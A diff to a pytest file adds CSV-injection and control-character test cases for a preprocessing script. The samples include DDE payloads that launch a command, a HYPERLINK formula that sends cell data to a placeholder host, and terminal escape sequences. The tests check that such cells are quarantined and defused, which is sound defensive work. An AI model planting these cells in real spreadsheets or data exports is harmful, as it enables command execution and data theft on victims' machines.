@@ -26,6 +26,7 @@ from typing import Any
 
 import pytest
 
+from ml_scripts.common.cells import FORMULA_PREFIXES
 from ml_scripts.processing.preprocess import main
 from testsupport.ml_scripts_testkit import HEADER, REPO_ROOT, ROWS, column, to_csv
 
@@ -198,7 +199,74 @@ CASES: dict[str, Case] = {
     "CRLF line ends with whitespace-only lines": Case(
         one(to_csv(HEADER, rows(), newline="\r\n") + b"   \r\n\t\r\n" * 50)
     ),
+    # --- cells a spreadsheet would run, and control characters --------------------------------
+    "a DDE command as a neighborhood": Case(
+        one(with_cell("Neighborhood", "=cmd|' /C calc'!A0")),
+        quarantined=("Neighborhood: starts like a spreadsheet formula (= + - @)",),
+        checks=(lambda output: _raw_row_starts(output, f"{ROWS[5][0]},"),),
+    ),
+    "a HYPERLINK formula": Case(
+        one(with_cell("Exterior 2nd", '=HYPERLINK("http://x.example/?"&A1,"click")')),
+        quarantined=("Exterior 2nd: starts like a spreadsheet formula",),
+    ),
+    "an @ function": Case(
+        one(with_cell("Exterior 1st", "@SUM(A1:A9)")),
+        quarantined=("Exterior 1st: starts like a spreadsheet formula",),
+    ),
+    "a + formula": Case(
+        one(with_cell("Sale Type", "+1+1")),
+        quarantined=("Sale Type: starts like a spreadsheet formula",),
+    ),
+    "a - formula": Case(
+        one(with_cell("MS Zoning", "-2+3+cmd|' /C calc'!A0")),
+        quarantined=("MS Zoning: starts like a spreadsheet formula",),
+    ),
+    "a NUL inside a category": Case(
+        one(with_cell("Neighborhood", "Nam\x00es")),
+        quarantined=("Neighborhood: holds a control character (U+0000)",),
+    ),
+    "a terminal escape sequence inside a category": Case(
+        one(with_cell("Neighborhood", "\x1b]0;owned\x07\x1b[2JNAmes")),
+        quarantined=("Neighborhood: holds a control character (U+001B)",),
+    ),
+    "a right-to-left override inside a category": Case(
+        one(with_cell("House Style", "1Story\u202e")),
+        quarantined=("House Style: holds a control character (U+202E)",),
+    ),
+    "a quoted newline inside a category": Case(
+        one(with_cell("Exterior 1st", "Vinyl\nSd")),
+        quarantined=("Exterior 1st: holds a control character (U+000A)",),
+    ),
+    "a formula in a quarantined row's first field": Case(
+        one(
+            to_csv(
+                HEADER, rows(4) + [[f"=1+2{i}", *row[1:-1], "-1"] for i, row in enumerate(rows(2))]
+            )
+        ),
+        quarantined=(f"{PRICE_RANGE} (got -1)", f"{PRICE_RANGE} (got -1)"),
+        checks=(lambda output: _raw_row_starts(output, "'=1+20,", "'=1+21,"),),
+    ),
+    "a formula as the file name": Case(
+        one(with_cell("SalePrice", "0"), "=1+cmd|'calc'!A0.csv"),
+        quarantined=(f"{PRICE_RANGE} (got 0)",),
+        checks=(lambda output: _source_files_are(output, "'=1+cmd|'calc'!A0.csv"),),
+    ),
 }
+
+
+def _raw_row_starts(output: Path, *starts: str) -> None:
+    assert [
+        row["raw_row"][: len(start)] for row, start in zip(_quarantine(output), starts, strict=True)
+    ] == list(starts)
+
+
+def _source_files_are(output: Path, name: str) -> None:
+    assert {row["source_file"] for row in _quarantine(output)} == {name}
+
+
+def _cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
 
 
 def _report_counts(output: Path, **expected: int) -> None:
@@ -258,6 +326,16 @@ def test_hostile_input_gets_one_clear_answer_and_loses_no_row(
         assert report["rows_duplicate"] == case.duplicates
     quarantined = _quarantine(output)
     assert len(quarantined) == report["rows_quarantined"]
+    # Nothing written as CSV starts like a formula: not the clean splits, not quarantine.csv.
+    written = [output / "quarantine" / "quarantine.csv"]
+    written += [output / s / f"{s}.csv" for s in ("train", "validation", "test")]
+    assert not [
+        cell
+        for path in written
+        if path.exists()
+        for cell in _cells(path)
+        if cell.startswith(FORMULA_PREFIXES)
+    ]
     assert len(quarantined) == len(case.quarantined) or case.failure is not None
     for row, expected in zip(quarantined, case.quarantined, strict=False):
         assert expected in row["reason"], (row["reason"], expected)
